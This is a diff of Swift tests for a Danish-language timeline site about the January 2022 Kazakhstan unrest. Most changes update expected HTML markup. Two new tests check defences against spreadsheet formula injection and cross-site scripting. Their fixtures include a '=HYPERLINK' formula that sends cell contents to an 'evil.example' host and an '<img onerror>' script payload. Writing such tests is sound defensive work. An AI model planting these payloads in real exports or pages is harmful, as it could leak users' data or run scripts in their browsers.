@@ -77,15 +77,23 @@ struct TimelineTests {
 
         #expect(html.contains("<h2 id=\"d2022-01\"><time datetime=\"2022-01\">Januar 2022</time></h2>"))
         #expect(html.contains("<h2 id=\"d2022-01-05\"><time datetime=\"2022-01-05\">Onsdag den 5. januar 2022</time></h2>"))
-        #expect(html.contains("<time datetime=\"2022-01-05T14:00:00+06:00\">kl. 14.00 i Almaty (kl. 09.00 dansk tid)</time>"))
+        // One compact row per event: the local clock, the Danish time in brackets, then the place.
+        let storm = try #require(html.components(separatedBy: "id=\"2022-01-05-b-stormet\">").last)
+        #expect(storm.hasPrefix("\n<p class=\"clock\"><time datetime=\"2022-01-05T14:00:00+06:00\">kl. 14.00</time> <span class=\"site-clock\">(kl. 09.00 dansk tid)</span></p>"))
         // Written in Danish time, shown on Almaty's clock because of `timezone`.
-        #expect(html.contains("<time datetime=\"2022-01-05T14:00:00+06:00\">kl. 14.00 i Almaty (kl. 09.00 dansk tid)</time> · Almaty</p>"))
+        let flames = try #require(html.components(separatedBy: "id=\"2022-01-05-a-flammer\">").last)
+        #expect(flames.hasPrefix("\n<p class=\"clock\"><time datetime=\"2022-01-05T14:00:00+06:00\">kl. 14.00</time> <span class=\"site-clock\">(kl. 09.00 dansk tid)</span></p>"))
+        #expect(flames.components(separatedBy: "</li>")[0].contains("<span class=\"place\">Almaty</span>"))
         // An offset without a zone or place still works, as "lokal tid".
-        #expect(html.contains("<time datetime=\"2022-01-06T10:30:00+06:00\">kl. 10.30 lokal tid (kl. 05.30 dansk tid)</time>"))
-        // A date-only event shows no clock time.
-        #expect(html.contains("<time datetime=\"2022-01-05\">Uden klokkeslæt</time>"))
+        #expect(html.contains("<time datetime=\"2022-01-06T10:30:00+06:00\">kl. 10.30 lokal tid</time> <span class=\"site-clock\">(kl. 05.30 dansk tid)</span>"))
+        // A date-only event shows no clock time, and says nothing about it.
+        #expect(html.contains("id=\"2022-01-05-c-demonstration\">\n<p class=\"clock\"></p>"))
+        #expect(!html.contains("Uden klokkeslæt"))
         #expect(!html.contains("kl. 00.00"))
-        #expect(html.contains("<strong>Ubekræftet</strong>: kun én kilde, ikke uafhængigt bekræftet"))
+        // The status as a badge on the row; what it means once, in the legend.
+        #expect(html.contains("<span class=\"badge status-unverified\">Ubekræftet</span>"))
+        #expect(html.components(separatedBy: "kun én kilde, ikke uafhængigt bekræftet").count == 2, "the explanation once per page")
+        #expect(html.contains("<div><dt><span class=\"badge status-unverified\">Ubekræftet</span></dt><dd>kun én kilde, ikke uafhængigt bekræftet</dd></div>"))
         #expect(html.contains("<a href=\"/kilder/#zakon\">Zakon</a> via <a href=\"/kilder/#reuters\">Reuters</a> (<a href=\"https://www.zakon.kz/\">originalen</a>)"))
         #expect(html.contains("<li class=\"event key new\" id=\"2022-01-05-b-stormet\">"), "a key moment stands out")
     }
@@ -137,7 +145,8 @@ struct TimelineTests {
         // A date without a time counts from midnight on the readers' clock: 20 hours before.
         #expect(html.contains("<li class=\"event new\" id=\"2022-01-05-c-demonstration\">"))
         #expect(html.contains("<li class=\"event\" id=\"2022-01-06-offset\">"), "an event after the build time is not new")
-        #expect(html.contains("<strong class=\"new-label\" title=\"tilføjet eller ændret det seneste døgn\">Nyt</strong>"))
+        #expect(html.contains("<span class=\"badge badge-new\">Nyt</span>"))
+        #expect(html.contains("<dd>tilføjet eller ændret inden for 1 døgn før seneste opdatering</dd>"), "the legend says what new means")
     }
 
     @Test func anEventPageHasPlaceSourcesNeighboursAndEscapedJSONLD() async throws {
@@ -154,7 +163,7 @@ struct TimelineTests {
             """)
         try await site.build()
         let html = try site.outputText("tidslinje/2022-01-05-b-stormet/")
-        #expect(html.contains("Sted: <a href=\"/kort/almaty/\">Almaty</a> <span class=\"coordinates\">(43,25° N, 76,92° Ø)</span>"))
+        #expect(html.contains("<dt>Sted</dt><dd><a href=\"/kort/almaty/\">Almaty</a></dd>"))
         #expect(html.contains("rel=\"prev\">Flammer i bygningen</a>"))
         let flames = try site.outputText("tidslinje/2022-01-05-a-flammer/")
         #expect(flames.contains("kl. 14.00 i Almaty (kl. 09.00 dansk tid)</time> – <time datetime=\"2022-01-05T16:00:00+06:00\">onsdag den 5. januar 2022, kl. 16.00 i Almaty (kl. 11.00 dansk tid)</time>"))
@@ -205,7 +214,7 @@ struct TimelineTests {
         #expect(first.range(of: "Flammer i bygningen")!.lowerBound < first.range(of: "Akimatet stormet")!.lowerBound)
         let second = sections.last!.components(separatedBy: "</section>")[0]
         #expect(second.contains("Akimatet stormet") && !second.contains("Flammer i bygningen"))
-        #expect(html.contains("<p><a href=\"/tidslinje/\">Se hele tidslinjen</a></p>"))
+        #expect(html.contains("<p class=\"more\"><a href=\"/tidslinje/\">Se hele tidslinjen</a></p>"))
         #expect(!html.contains("language-timeline"))
     }
 
@@ -271,6 +280,55 @@ struct TimelineTests {
         #expect(csv.hasSuffix("\r\n"))
         // Read on other sites, so links carry the whole address.
         #expect(csv.contains("\"<p>Se <a href=\"\"https://example.org/tidslinje/\"\">tidslinjen</a>.</p>\n\""))
+    }
+
+    @Test func cellsThatASpreadsheetWouldRunAsFormulasAreText() async throws {
+        let site = try Self.site("""
+            -- content/events/2022-01-07-formel.md --
+            ---
+            title: '=HYPERLINK("https://evil.example/?"&A1,"Klik")'
+            date: 2022-01-07
+            sources: [Ritzau]
+            tags: ["@SUM(A1:A9)"]
+            ---
+            Tekst.
+            -- content/events/2022-01-08-minus.md --
+            ---
+            title: -5 grader i Astana
+            date: 2022-01-08
+            sources: [Ritzau]
+            tags: [+kulde]
+            ---
+            Tekst.
+            """)
+        try await site.build()
+        let cells = try site.outputText("tidslinje.csv").components(separatedBy: "\r\n").flatMap { $0.components(separatedBy: ",") }
+        #expect(cells.filter { "=+-@".contains($0.first ?? " ") } == [])
+        let csv = try site.outputText("tidslinje.csv")
+        #expect(csv.contains(",\"'=HYPERLINK(&quot;https://evil.example/?&quot;&amp;A1"))
+        #expect(csv.contains(",'@SUM(A1:A9),"))
+        #expect(csv.contains(",'-5 grader i Astana,"))
+        #expect(csv.contains(",'+kulde,"))
+    }
+
+    @Test func theTimelineJSGroupIsEscapedLikeItsOtherHTML() async throws {
+        let site = try Self.site("""
+            -- content/events/2022-01-07-gruppe.md --
+            ---
+            title: Gruppe
+            date: 2022-01-07
+            sources: [Ritzau]
+            tags: ["<img src=x onerror=alert(1)>"]
+            ---
+            Tekst.
+            """)
+        try await site.build()
+        let text = try site.outputText("tidslinje.json")
+        let root = try #require(try JSONSerialization.jsonObject(with: Data(text.utf8)) as? [String: Any])
+        let events = try #require(root["events"] as? [[String: Any]])
+        let slide = try #require(events.first { $0["unique_id"] as? String == "2022-01-07-gruppe" })
+        #expect(slide["group"] as? String == "&lt;img src=x onerror=alert(1)&gt;")
+        #expect(try site.outputText("tidslinje.csv").contains(",&lt;img src=x onerror=alert(1)&gt;,"))
     }
 
     @Test func theEventsFeedListsEventsNewestFirst() async throws {
